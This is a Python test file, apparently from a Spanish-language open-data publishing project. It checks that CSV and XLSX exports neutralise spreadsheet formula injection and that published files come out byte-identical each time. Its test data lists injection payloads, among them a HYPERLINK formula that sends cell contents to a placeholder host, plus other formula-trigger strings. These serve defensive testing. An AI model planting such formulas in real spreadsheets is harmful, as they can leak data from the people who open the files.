"""Texto peligroso en CSV y XLSX (comas, comillas, saltos de línea, fórmulas), leído de vuelta
con el módulo ``csv`` y con openpyxl; y los mismos datos dan los mismos bytes."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import openpyxl

from programas_spen.datos_abiertos.esquema_tabla import Columna, EsquemaTabla, Origen, Tabla
from programas_spen.datos_abiertos.hojas_csv import DISPARADORES, escribir_csv, recuperar
from programas_spen.datos_abiertos.libro_xlsx import escribir_xlsx
from programas_spen.sitio import urls

from .. import datos_prueba
from .conftest import publicar_de

PELIGROSOS = [
    '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"clic")', "+1+2", "-2+3", "@SUMA(A1:A9)", "\t=1+1", "\r=1+1",
    "'=1+1", "'apóstrofo", "texto, con comas", 'con "comillas" dobles', "con\nsalto de línea\r\ny otro",
    "normal", "",
]
ESQUEMA = EsquemaTabla("prueba", "Prueba", "Textos peligrosos.", (
    Columna("id", "integer", "Fila.", requerida=True), Columna("texto", "string", "Texto."),
    Columna("numero", "number", "Un número negativo sigue siendo número."),
), ("id",))


def _tabla() -> Tabla:
    filas = tuple((i, texto, -2.5) for i, texto in enumerate(PELIGROSOS, 1))
    return Tabla(ESQUEMA, filas, tuple(Origen("", 0) for _ in filas))


def test_csv_ninguna_celda_de_texto_es_formula() -> None:
    """Leído con ``csv``: cada texto vuelve entero (comas, comillas, saltos), ninguno empieza
    con un disparador de fórmula, y quitando el apóstrofo de protección se recupera exacto."""
    filas = list(csv.reader(io.StringIO(escribir_csv(_tabla()).decode("utf-8"), newline="")))
    assert filas[0] == ["id", "texto", "numero"]
    textos = [fila[1] for fila in filas[1:]]
    assert len(textos) == len(PELIGROSOS)
    for celda, original in zip(textos, PELIGROSOS, strict=True):
        assert not celda.startswith(("=", "+", "-", "@", "\t", "\r")), celda
        assert recuperar(celda) == original
        assert celda.startswith("'") == original.startswith(DISPARADORES)
    assert {fila[2] for fila in filas[1:]} == {"-2.5"}


def test_xlsx_todo_texto_es_texto() -> None:
    """Leído con openpyxl: cada texto es una celda de texto (``data_type == "s"``) con el valor
    exacto, sin apóstrofo; ninguna celda es fórmula."""
    libro = openpyxl.load_workbook(io.BytesIO(escribir_xlsx([_tabla()], ["=léame"], "2024-06-17")))
    hoja = libro["prueba"]
    celdas = [hoja.cell(row=i + 2, column=2) for i in range(len(PELIGROSOS))]
    assert [c.value if c.value is not None else "" for c in celdas] == PELIGROSOS
    assert all(c.data_type == "s" for c in celdas if c.value is not None)
    assert libro["leame"]["A1"].value == "=léame" and libro["leame"]["A1"].data_type == "s"
    assert all(c.data_type != "f" for h in libro.worksheets for fila in h.iter_rows() for c in fila)


def test_texto_peligroso_de_los_datos_se_publica_literal(tmp_path: Path) -> None:
    """Un compromiso cuyo texto empieza con ``=`` y trae comas, comillas y salto de línea, por la
    carga real: en el CSV protegido, en el XLSX y en el JSON exacto."""
    texto = '=HYPERLINK("http://ejemplo.invalid","clic"), con "comillas"\ny salto'
    archivos = datos_prueba.cambiar(datos_prueba.archivos_base(), datos_prueba.INFORME,
                                    "texto: Preparar el segundo informe.", f"texto: {json.dumps(texto)}")
    _, publicado = publicar_de(datos_prueba.cargar(tmp_path, archivos))
    por_ruta = dict(publicado.archivos)
    filas = list(csv.DictReader(io.StringIO(por_ruta[urls.tabla_sitio("compromisos")].decode("utf-8"), newline="")))
    celda = next(f["texto"] for f in filas if f["id"] == "compromiso-02")
    assert celda == "'" + texto and recuperar(celda) == texto
    libro = openpyxl.load_workbook(io.BytesIO(por_ruta[urls.datos_documento("informe-2024", "datos.xlsx")]))
    hoja = libro["compromisos"]
    columna = [c.value for c in hoja[1]].index("texto") + 1
    celda_xlsx = hoja.cell(row=3, column=columna)
    assert (celda_xlsx.value, celda_xlsx.data_type) == (texto, "s")
    modelo = json.loads(por_ruta[urls.datos_documento("informe-2024", "datos.json")])
    assert modelo["compromisos"][1]["texto"] == texto


def test_ninguna_celda_real_es_formula(publicado_real) -> None:
    """En los datos reales: ningún libro XLSX tiene fórmulas y ningún CSV tiene un texto que
    empiece con un disparador de fórmula."""
    for ruta, contenido in publicado_real.archivos:
        if ruta.endswith(".xlsx"):
            libro = openpyxl.load_workbook(io.BytesIO(contenido))
            assert all(c.data_type != "f" for h in libro.worksheets for f in h.iter_rows() for c in f), ruta
        elif ruta.endswith(".csv"):
            for fila in csv.reader(io.StringIO(contenido.decode("utf-8"), newline="")):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in fila), ruta


def test_mismos_datos_mismos_bytes(resultado_real, publicado_real) -> None:
    """Publicar de nuevo, segundos después, da los mismos bytes en cada archivo (los ZIP y XLSX
    llevan la fecha de los datos, no la del reloj)."""
    time.sleep(2.1)  # la resolución de las fechas de un ZIP es de dos segundos
    _, otra_vez = publicar_de(resultado_real)
    assert [r for r, _ in otra_vez.archivos] == [r for r, _ in publicado_real.archivos]
    distintos = [r for (r, a), (_, b) in zip(otra_vez.archivos, publicado_real.archivos, strict=True) if a != b]
    assert distintos == []
    por_ruta = dict(publicado_real.archivos)
    with zipfile.ZipFile(io.BytesIO(por_ruta[urls.datos_sitio("programas-spen.zip")])) as archivo:
        fechas = {info.date_time for info in archivo.infolist()}
    anio, mes, dia = (int(x) for x in publicado_real.fecha.split("-"))
    assert fechas == {(anio, mes, dia, 0, 0, 0)}
    libro = openpyxl.load_workbook(io.BytesIO(por_ruta[urls.datos_sitio("programas-spen.xlsx")]))
    assert libro.properties.modified.date().isoformat() == publicado_real.fecha
